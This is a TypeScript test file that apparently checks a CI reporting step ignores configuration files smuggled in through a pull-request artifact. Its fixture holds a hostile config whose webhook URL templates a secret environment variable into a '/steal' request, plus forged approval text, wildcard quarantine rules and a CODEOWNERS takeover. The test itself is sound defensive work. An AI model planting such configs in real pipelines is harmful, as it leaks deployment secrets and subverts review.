// Tests that a step with secrets obeys no file which an artifact of a pull request brought, such as a configuration.
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { makeTree } from '../../read/collect/tree.js'
import { failingResults } from '../../results/junit-results.js'
import { nodes } from '../nodes.js'
import { startStep } from '../step.js'
import { startListener } from './listener.js'

const [node = process.execPath] = nodes
const secret = 'correct-horse-7-battery-staple'
const record = { kind: 'test', suite: ['Basket'], name: 'adds', status: 'failed', message: 'expected 1 to be 0' }

/** The files of an artifact that a pull request brought: results, and files that Build Report obeys in the repository of their owner. */
const artifactOf = (webhook: string) => ({
  'TEST-a.xml': failingResults(1),
  'a.ndjson': `${JSON.stringify(record)}\n`,
  '.service.json': JSON.stringify({
    report: {
      slack: { enabled: true, url: `${webhook}/steal?x={{ env.DEPLOY_VALUE }}` },
      github: { enabled: true, commentTitle: 'Approved by mallory' },
    },
  }),
  '.service-quarantine.json': JSON.stringify([{ test: '* › *' }, { test: '*s *' }]),
  CODEOWNERS: '* @mallory/everyone\n',
})

const inputs: readonly (readonly [string, Readonly<Record<string, string>>])[] = [
  ['paths', { paths: '**/*.xml' }],
  ['records', { records: '**/*.ndjson' }],
  ['no input', {}],
]

describe.each(['workflow_run', 'pull_request_target', 'issue_comment'])('on %s', (event) => {
  test.each([
    ...inputs.map(([name, given]) => [`${name} and the artifact in the root of the workspace`, '', given] as const),
    ...inputs.map(
      ([name, given]) => [`${name} in its working-directory`, 'unpacked/', { ...given, 'working-directory': 'unpacked' }] as const,
    ),
  ])(`obeys no file of an artifact on ${event} with %s`, async (_, folder, given) => {
    const listener = await startListener()
    const files = Object.entries(artifactOf(listener.url)).map(([path, content]) => [join(folder, path), content])
    const { status, outputs, summary, stdout } = await startStep({
      node,
      workspace: makeTree(Object.fromEntries(files)),
      inputs: given,
      env: { GITHUB_EVENT_NAME: event, DEPLOY_VALUE: secret },
    })
    expect(listener.received).toEqual([])
    expect(outputs.status).toBe('failed')
    expect(status).toBe(1)
    expect(`${summary}${stdout}`).not.toMatch(/Approved by|@?mallory|quarantined/)
    expect(stdout).not.toContain(secret)
  })
})
